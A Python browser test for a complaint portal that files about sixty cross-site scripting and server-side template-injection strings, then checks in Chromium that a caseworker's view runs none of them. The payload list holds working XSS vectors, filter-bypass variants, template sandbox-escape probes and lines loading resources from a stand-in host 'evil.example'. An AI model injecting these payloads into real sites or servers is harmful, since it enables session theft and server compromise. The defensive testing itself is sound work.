"""A complaint is also an attack: 60 cross-site scripting and template-injection strings filed
through the public form, then opened by a caseworker in Chromium with JavaScript on. No script
runs, no dialog opens, no request leaves for another host, and every string reads as text."""

from __future__ import annotations

import pytest

from tests.browser.conftest import Visit
from tests.conftest import sign_in
from tests.support.filing import file_complaint

pytestmark = pytest.mark.browser

MARK = "window.__pwned=1"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f"<SCRIPT>{MARK}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={MARK}>",
    f'<img src=x onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<a href=javascript:{MARK}>click</a>",
    f'<a href="jav&#x09;ascript:{MARK}">tab</a>',
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<textarea autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<object data=javascript:{MARK}>",
    f"<embed src=javascript:{MARK}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<form><button formaction=javascript:{MARK}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x.png)">bg</div>',
    "<img src=//evil.example/pixel.png>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"--><script>{MARK}</script>",
    f"]]><script>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<marquee onstart={MARK}>",
    f"<isindex type=image src=1 onerror={MARK}>",
    f"<x contenteditable onblur={MARK}>lose focus</x>",
    f"javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    "{{7*7}}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "[[${7*7}]]",
    "*{7*7}",
    "\u202eevil\u202c",
    "\u0000null byte",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<svg><style><img src=x onerror={MARK}></style></svg>",
    f"<template><script>{MARK}</script></template>",
    f'<img src="x` `<script>{MARK}</script>"` `>',
]


def test_sixty_hostile_strings_stay_text_for_the_caseworker(portal, client, chromium, live_server):
    assert len(PAYLOADS) >= 50
    portal.account("target@example.org")
    halves = [PAYLOADS[: len(PAYLOADS) // 2], PAYLOADS[len(PAYLOADS) // 2 :]]
    for part in halves:
        text = "\n".join(part)
        file_complaint(
            portal.app.test_client(),
            text=text,
            answers={
                "what": {"place": part[3], "company_other": part[5], "when_text": part[-1]},
                "safety": {"fear": text},
                "remedy": {"remedy_words": text},
                "contact": {"contact_mode": "confidential", "name": part[0], "email": part[1]},
            },
            files=[
                (part[4][:60] + ".png", b"\x89PNG hostile"),
                ("'\"><svg onload=x>.pdf", b"%PDF"),
            ],
        )
    staff = portal.app.test_client()
    sign_in(staff, "target@example.org")
    cookie = staff.get_cookie("staff")

    visit = Visit(chromium, live_server, javascript=True)
    visit.context.add_cookies(
        [{"name": "staff", "value": cookie.value, "url": live_server, "httpOnly": True}]
    )
    dialogs: list[str] = []
    visit.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page = visit.page
    page.goto(live_server + "/caseworker/cases")
    links = [a.get_attribute("href") for a in page.locator("table.cases a").all()]
    assert len(links) == 2
    for link in links:
        page.goto(live_server + link)
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)  # let autofocus, onload and animations fire if they could
        assert page.evaluate("window.__pwned === undefined")
        body = page.locator("main").inner_text()
        # Every payload reads back as the text that was typed (markup shown, never run).
        shown = [p for p in PAYLOADS if p.strip("\u0000") and p.replace("\u0000", "") in body]
        assert len(shown) >= len(PAYLOADS) // 2 - 3, len(shown)
        assert "49" not in body  # no template expression was evaluated
    assert dialogs == []
    assert visit.foreign_requests() == []
    visit.close()
